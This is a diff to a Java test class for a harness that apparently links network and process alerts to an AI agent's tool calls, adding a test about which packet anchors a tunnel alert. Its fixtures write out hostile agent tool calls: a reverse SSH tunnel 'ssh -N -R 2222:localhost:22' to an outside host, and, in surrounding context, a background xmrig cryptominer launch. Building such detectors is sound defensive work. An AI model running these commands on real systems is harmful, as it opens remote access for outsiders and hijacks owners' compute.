@@ -143,6 +143,26 @@ class AgentContextHarnessTest {
     }
 
     @Test
+    void theAnchorIsTheFirstPacketThoughTheEndpointWasSeenInManyKeptMinutes() throws Exception {
+        // each minute with traffic to an endpoint sights it once; a backlog read ahead of the watermark has the
+        // sightings of minutes after the alert's window in state when the alert is told
+        long first = at(3) + 10_000;
+        sample("python", at(0));
+        seen("203.0.113.7", 22, first);
+        for (int minute = 4; minute <= 12; minute++) {
+            seen("203.0.113.7", 22, at(minute) + 5_000);
+        }
+        send(call("ep-tunnel", first - 1_800, first + 500, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
+        alert(tunnelAlert(3));
+        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));
+
+        List<Alert> out = harness.extractOutputValues();
+        assertThat(out).hasSize(1);
+        assertThat(out.get(0).getAgentContext().get(0).getReason())
+                .startsWith("tool call started 1.8 s before the first packet to 203.0.113.7:22");
+    }
+
+    @Test
     void aNewGpuProcessAnchorsAndTheJobsOwnDoesNot() throws Exception {
         sample("python", at(0));
         send(call("ep-miner", at(2) + 1_000, at(2) + 2_000, "nohup ./xmrig -o pool.example:3333 &"));
